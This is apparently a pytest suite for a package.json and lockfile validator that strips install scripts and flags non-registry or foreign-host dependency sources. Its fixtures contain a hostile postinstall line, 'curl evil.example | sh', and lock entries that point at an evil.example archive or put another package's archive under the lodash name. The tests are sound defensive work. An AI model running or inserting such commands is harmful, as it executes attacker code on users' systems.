"""SECURITY 22: what a `package.json` asks for, and what of it is not installed."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.npm_manifests import is_of_registry
from orchestrator.validators.package_json import Package, read_package
from tests.unit.orchestrator.validators.conftest import Write

HOST = "registry.example"
PACKAGE = """{
  "name": "site",
  "scripts": {
    "build": "next build",
    "test": "echo \\"Error: no test specified\\" && exit 1",
    "lint": " ",
    "postinstall": "curl evil.example | sh"
  },
  "dependencies": {
    "next": "~16.4.6",
    "react-19": "npm:react@^19"
  },
  "devDependencies": {
    "@scope/tool": ">=1 <2 || 3.x"
  },
  "overrides": {
    "left-pad": {
      ".": "1.3.0",
      "deep": "$next"
    }
  },
  "config": {
    "token": "x"
  }
}
"""


def read(write: Write, files: dict[str, str]) -> Package:
    package = read_package(write(files))
    assert package is not None
    return package


def test_sec_22_npm_sees_the_dependencies_and_no_script(write: Write) -> None:
    package = read(write, {"package.json": PACKAGE})

    assert sorted(json.loads(package.manifest)) == ["dependencies", "devDependencies", "name", "overrides"]
    assert package.direct == {"next", "react-19", "@scope/tool"}
    assert package.findings == ()


def test_a_script_is_known_by_its_line_unless_it_says_nothing(write: Write) -> None:
    package = read(write, {"package.json": PACKAGE})

    assert dict(package.scripts) == {"build": 4, "postinstall": 7}


@pytest.mark.parametrize(
    "spec",
    ["git+https://x.example/a.git", "git://x.example/a", "github:user/repo", "user/repo", "https://x.example/a.tgz",
     "http://x.example/a", "file:../a", "link:../a", "workspace:*", "portal:./a", "catalog:", "./a", "../a", ".",
     "/etc", "~/a", "a.tgz", "npm:user/repo@1", "npm:git@x.example:a", "npm:a@file:b", "a.tar.gz"],
)  # fmt: skip
def test_sec_22_a_source_of_another_kind_is_a_finding_at_its_line(write: Write, spec: str) -> None:
    text = json.dumps({"dependencies": {"next": "1.0.0", "thing": spec}}, indent=2)

    package = read(write, {"package.json": text})

    assert [(one.path, one.line) for one in package.findings] == [("package.json", 4)]
    assert "Private or direct sources are not installed" in package.findings[0].message


@pytest.mark.parametrize(
    "spec",
    ["1.2.3", "~1.2.3", "^1", "*", "", "latest", ">=1.2 <3 || 4.x", "1.0.0-beta.1+build", "npm:@a/b@~1.0", "npm:a"],
)
def test_versions_tags_and_aliases_are_of_the_registry(spec: str) -> None:
    assert is_of_registry(spec)


@given(st.text(max_size=40))
def test_sec_22_nothing_with_a_scheme_or_a_path_is_of_the_registry(spec: str) -> None:
    assert not (is_of_registry(spec) and not spec.startswith("npm:") and ({":", "/"} & set(spec)))


@pytest.mark.parametrize("kind", ["devDependencies", "optionalDependencies", "peerDependencies", "overrides"])
def test_sec_22_every_kind_of_dependency_is_looked_at(write: Write, kind: str) -> None:
    package = read(write, {"package.json": json.dumps({kind: {"thing": "file:../thing"}})})

    assert len(package.findings) == 1


def test_sec_22_a_lock_that_names_another_host_is_a_finding_at_its_line(write: Write) -> None:
    lock = {
        "packages": {
            "": {"name": "site"},
            "node_modules/a": {"resolved": f"https://{HOST}/a/-/a-1.0.0.tgz"},
            "node_modules/b": {"version": "1.0.0"},
            "node_modules/c": {"resolved": "https://evil.example/c.tgz"},
        }
    }
    package = read(write, {"package.json": "{}", "package-lock.json": json.dumps(lock, indent=1)})

    assert [(one.path, one.line) for one in package.foreign([HOST])] == [("package-lock.json", 12)]


@pytest.mark.parametrize(
    "lock",
    [
        {"packages": {"node_modules/lodash": {"resolved": f"https://{HOST}/evil/-/evil-1.0.0.tgz"}}},
        {"dependencies": {"lodash": {"version": "4.0.0", "resolved": f"https://{HOST}/evil/-/evil-1.0.0.tgz"}}},
    ],
)
def test_sec_22_a_lock_that_puts_another_packages_archive_below_a_name_is_a_finding(
    write: Write, lock: dict[str, object]
) -> None:
    package = read(write, {"package.json": "{}", "package-lock.json": json.dumps(lock)})

    (found,) = package.foreign([HOST])
    assert "lodash: https://registry.example/evil/-/evil-1.0.0.tgz" in found.message


def test_a_lock_may_name_an_alias_and_a_scope_as_npm_writes_them(write: Write) -> None:
    packages = {
        "node_modules/alias": {"name": "@o/real", "resolved": f"https://{HOST}/@o/real/-/real-1.0.0.tgz"},
        "node_modules/a/node_modules/@o/b": {"resolved": f"https://{HOST}/@o%2fb/-/b-1.0.0.tgz"},
    }
    package = read(write, {"package.json": "{}", "package-lock.json": json.dumps({"packages": packages})})

    assert package.foreign([HOST]) == ()


def test_sec_22_an_npmrc_that_names_another_registry_is_a_finding(write: Write) -> None:
    npmrc = f"fund=false\nregistry=https://{HOST}/\n@corp:registry = https://npm.corp.example\n"

    package = read(write, {"package.json": "{}", ".npmrc": npmrc})

    assert [(one.path, one.line) for one in package.foreign([HOST])] == [(".npmrc", 3)]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("{", "package.json is not JSON: "),
        ("[]", "package.json holds no object."),
        ('{"workspaces": ["packages/*"]}', "package.json declares workspaces, which are not installed here."),
    ],
)
def test_what_cannot_be_followed_is_said(write: Write, text: str, problem: str) -> None:
    assert read(write, {"package.json": text}).problem.startswith(problem)


def test_a_project_without_a_package_json_asks_for_nothing(write: Write) -> None:
    assert read_package(write({"a.py": ""})) is None


def test_a_package_json_that_is_a_link_is_not_followed(write: Write) -> None:
    root = write({"other.json": "{}"})
    (root / "package.json").symlink_to(root / "other.json")

    assert read_package(root) is None


def test_addresses_that_are_none_are_foreign(write: Write) -> None:
    lock = json.dumps({"packages": {"node_modules/a": {"resolved": "https://["}}})
    root = write({"package.json": PACKAGE, "package-lock.json": lock, ".npmrc": "registry=https://["})
    found = read_package(root)
    assert found is not None
    assert [(one.path, one.line) for one in found.foreign((HOST,))] == [("package-lock.json", 1), (".npmrc", 1)]


def test_of_a_lock_that_is_made_to_be_searched_for_hours_as_much_is_read_as_is_reported() -> None:
    lock = json.dumps({"packages": {f"node_modules/{number}": {"resolved": "x"} for number in range(50_000)}})
    assert len(Package(lock=lock).foreign((HOST,))) == 50


@pytest.mark.parametrize("depth", [300, 480, 700, 950, 40_000])
def test_a_package_json_of_any_depth_is_read_or_said_to_be_none(write: Write, depth: int) -> None:
    nested = '{"a":' * depth + '"1"' + "}" * depth
    found = read_package(write({"package.json": f'{{"overrides": {nested}}}'}))
    assert found is not None
    assert found.problem.startswith("package.json is not JSON: maximum recursion") or found.manifest
